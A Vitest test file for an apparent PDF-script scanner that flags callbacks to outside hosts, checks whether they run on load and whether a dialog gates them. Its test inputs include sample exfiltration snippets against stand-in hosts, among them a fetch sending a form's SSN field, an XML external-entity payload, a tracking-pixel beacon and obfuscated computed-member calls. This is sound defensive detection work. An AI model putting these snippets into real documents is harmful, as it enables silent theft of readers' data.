import { describe, expect, it } from "vitest";
import { defaultBudget } from "../../limits";
import { afterDialog, findCallbackCalls } from "./callback-apis";
import { runsOnLoad } from "./runs-on-load";

describe("findCallbackCalls", () => {
  it.each([
    [
      'this.submitForm({cURL: "https://collect.example/x", cSubmitAs: "PDF"});',
      "submitForm",
      "network",
      "https://collect.example/x",
    ],
    ['app.launchURL("https://example.com/t?id=1", true);', "app.launchURL", "network", "https://example.com/t?id=1"],
    [
      'app.opencPDFWebPage("https://example.com/o");',
      "app.opencPDFWebPage (Foxit)",
      "network",
      "https://example.com/o",
    ],
    ['this.getURL("http://example.com/p");', "getURL", "network", "http://example.com/p"],
    ['xfa.host.gotoURL("https://example.com/");', "xfa.host.gotoURL", "network", "https://example.com/"],
    ['SOAP.request({cURL: "https://svc.example/soap", oRequest: {}});', "SOAP", "network", "https://svc.example/soap"],
    [
      'var r = Net.HTTP.request({cVerb: "GET", cURL: "https://example.com/"});',
      "Net.HTTP",
      "network",
      "https://example.com/",
    ],
    [
      'app.openDoc("\\\\\\\\files.example\\\\share\\\\x.pdf");',
      "app.openDoc (remote)",
      "network",
      "\\\\files.example\\share\\x.pdf",
    ],
    ['this.mailDoc(true, "a@example.com");', "mailDoc", "mail", "a@example.com"],
    ["app.mailMsg({bUI: false, cTo: 'a@example.com'});", "app.mailMsg", "mail", "a@example.com"],
    ['this.importDataObject("data", "/c/secrets.txt");', "importDataObject", "file", "data"],
    [
      'var s = util.readFileIntoStream("/c/Users/x/file.txt");',
      "util.readFileIntoStream",
      "file",
      "/c/Users/x/file.txt",
    ],
    [
      'app.media.getURLData("https://track.example/a.mp3", "audio/mp3");',
      "app.media.getURLData",
      "network",
      "https://track.example/a.mp3",
    ],
    [
      'app.openFDF("https://files.example/form.fdf");',
      "app.openFDF (remote)",
      "network",
      "https://files.example/form.fdf",
    ],
    [
      'this.importIcon("logo", "\\\\\\\\203.0.113.9\\\\share\\\\logo.pdf", 0);',
      "importIcon",
      "file",
      "\\\\203.0.113.9\\share\\logo.pdf",
    ],
    ['this.importSound("beep", "/c/sounds/beep.wav");', "importSound", "file", "beep"],
    ['this.importAnXFDF("/c/data/answers.xfdf");', "importAnXFDF", "file", "/c/data/answers.xfdf"],
    ['xfa.host.importData("/c/data/answers.xml");', "xfa.host.importData", "file", "/c/data/answers.xml"],
    [
      'var x = "<?xml version=\\"1.0\\"?><!DOCTYPE r [<!ENTITY e SYSTEM \\"http://collect.example/x\\">]><r>&e;</r>"; XMLData.parse(x, true);',
      "XMLData.parse (external entity)",
      "network",
      "http://collect.example/x",
    ],
    [
      "fetch('https://collect.example/p?d=' + escape(this.getField('ssn').value));",
      "fetch (remote)",
      "network",
      "https://collect.example/p?d=",
    ],
    [
      'var r = new XMLHttpRequest(); r.open("GET", "https://collect.example/x");',
      "XMLHttpRequest",
      "network",
      undefined,
    ],
    ['var w = new WebSocket("wss://collect.example/s");', "WebSocket", "network", "wss://collect.example/s"],
    [
      'navigator.sendBeacon("https://collect.example/b", data);',
      "navigator.sendBeacon",
      "network",
      "https://collect.example/b",
    ],
    [
      'this.insertPages({ nPage: 0, cPath: "\\\\\\\\files.example\\\\share\\\\cover.pdf" });',
      "insertPages (remote)",
      "file",
      "\\\\files.example\\share\\cover.pdf",
    ],
    [
      'this.addWatermarkFromFile({ cDIPath: "//files.example/share/mark.pdf" });',
      "addWatermarkFromFile (remote)",
      "file",
      "//files.example/share/mark.pdf",
    ],
    // computed members, as obfuscators and generators write them
    ['this["getURL"]("http://example.com/p");', "getURL", "network", "http://example.com/p"],
    ["app['launchURL'] ('https://example.com/t', true);", "app.launchURL", "network", "https://example.com/t"],
    [
      'app["media"]["getURLData"]("https://track.example/a.mp3", "audio/mp3");',
      "app.media.getURLData",
      "network",
      "https://track.example/a.mp3",
    ],
    ['SOAP["connect"]("https://svc.example/soap?wsdl");', "SOAP", "network", "https://svc.example/soap?wsdl"],
    [
      'XMLData[ "parse" ]("<!DOCTYPE r [<!ENTITY e SYSTEM \'http://collect.example/e\'>]><r>&e;</r>", true);',
      "XMLData.parse (external entity)",
      "network",
      "http://collect.example/e",
    ],
    ['window["fetch"]("https://collect.example/f");', "fetch (remote)", "network", "https://collect.example/f"],
    [
      'var img = new Image(1,1); img.src = "https://collect.example/p.gif?d=" + x;',
      "Image.src (remote)",
      "network",
      "https://collect.example/p.gif?d=",
    ],
  ])("finds %s", (script, api, role, target) => {
    const calls = findCallbackCalls(script, defaultBudget());
    expect(calls).toHaveLength(1);
    expect(calls[0]).toMatchObject({ api, role, onLoad: true, afterDialog: false });
    expect(calls[0].target).toBe(target);
  });

  it("does not count a call in a comment", () => {
    expect(
      findCallbackCalls(
        '/*\nif (ans == 1)\n  this.getURL("http://www.example.com/reader", false);\n*/',
        defaultBudget(),
      ),
    ).toEqual([]);
  });

  it("does not count a local app.openDoc, a lookalike name or a plain string", () => {
    expect(
      findCallbackCalls('app.openDoc("appendix.pdf", this); app.openDoc("/c/docs/a.pdf");', defaultBudget()),
    ).toEqual([]);
    expect(
      findCallbackCalls(
        'this.insertPages({ nPage: 0, cPath: "/c/docs/cover.pdf" }); this.replacePages({ cPath: "annex.pdf" });',
        defaultBudget(),
      ),
    ).toEqual([]);
    // XMLData.parse of a document without external entities, a script's own fetch of a field, a method named fetch
    expect(
      findCallbackCalls(
        'XMLData.parse("<r><a>1</a></r>", false); var v = fetch("amount"); cache.fetch("https://x.example/");',
        defaultBudget(),
      ),
    ).toEqual([]);
    expect(findCallbackCalls("mySubmitFormHelper(); var submitFormLabel = 1;", defaultBudget())).toEqual([]);
    expect(findCallbackCalls('var help = "call submitForm later";', defaultBudget())).toEqual([]);
    // an image from the document's own folder, a comparison, a computed name that is not called
    expect(
      findCallbackCalls(
        'img.src = "logo.png"; if (img.src == "https://cdn.example/a.png") n++; var f = this["getURL"];',
        defaultBudget(),
      ),
    ).toEqual([]);
  });
});

describe("runsOnLoad", () => {
  const at = (script: string, needle: string) => runsOnLoad(script, defaultBudget()).runs(script.indexOf(needle));

  it.each([
    ["top level", 'this.submitForm("https://x.example/");', "submitForm", true],
    [
      "a function the script only defines",
      'function send() { this.submitForm("https://x.example/"); }',
      "submitForm",
      false,
    ],
    [
      "a function called at top level",
      'function send() { this.submitForm("https://x.example/"); }\nsend();',
      "submitForm",
      true,
    ],
    [
      "a function called from a called function",
      "function a() { b(); }\nfunction b() { this.getURL('https://x.example/'); }\na();",
      "getURL",
      true,
    ],
    [
      "a function called only from an uncalled one",
      "function a() { b(); }\nfunction b() { this.getURL('https://x.example/'); }",
      "getURL",
      false,
    ],
    ["an immediately invoked function", "(function () { app.launchURL('https://x.example/'); })();", "launchURL", true],
    [
      "a function expression stored under a name never called",
      "var send = function () { this.mailDoc(true); };",
      "mailDoc",
      false,
    ],
    [
      "a method stored on an object and called",
      "var o = { send: function () { this.mailDoc(true); } };\no.send();",
      "mailDoc",
      true,
    ],
    ["a string run by a timer", "app.setTimeOut(\"this.submitForm('https://x.example/')\", 100);", "submitForm", true],
    ["a block comment", '/* if (x) this.getURL("https://x.example/"); */ var y = 1;', "getURL", false],
    ["a line comment", '// this.submitForm("https://x.example/")\nvar y = 1;', "submitForm", false],
    [
      "braces in strings, comments and regexes",
      'function f() { var s = "}"; /* } */ var r = /[}]/; this.getURL("https://x.example/"); }',
      "getURL",
      false,
    ],
  ])("%s", (_name, script, needle, runs) => {
    expect(at(script, needle)).toBe(runs);
  });
});

describe("afterDialog", () => {
  it("sees a call made only when the reader answers a dialog", () => {
    const s = "if (app.alert(msg, 1, 1) == 1)\n   this.getURL(url, false);";
    expect(afterDialog(s, s.indexOf("getURL"))).toBe(true);
    const t = 'if (app.response({cQuestion: "Send?"}) != null) { this.submitForm("https://x.example/"); }';
    expect(afterDialog(t, t.indexOf("submitForm"))).toBe(true);
    const u =
      'var ans = app.alert("Go on-line for the latest reader?", 1, 1);\nif (ans == 1)\n  this.getURL("https://x.example/", false);';
    expect(afterDialog(u, u.indexOf("getURL"))).toBe(true);
  });

  it("does not take another condition, or a statement after the if, for consent", () => {
    const s = "if (app.viewerVersion < 9) this.getURL(url);";
    expect(afterDialog(s, s.indexOf("getURL"))).toBe(false);
    const t = "if (app.alert(msg, 1, 1) == 1) x = 1; this.getURL(url);";
    expect(afterDialog(t, t.indexOf("getURL"))).toBe(false);
    expect(afterDialog("if", 0)).toBe(false);
    const u = "var ans = app.viewerVersion;\nif (ans == 1) this.getURL(url);";
    expect(afterDialog(u, u.indexOf("getURL"))).toBe(false);
  });
});
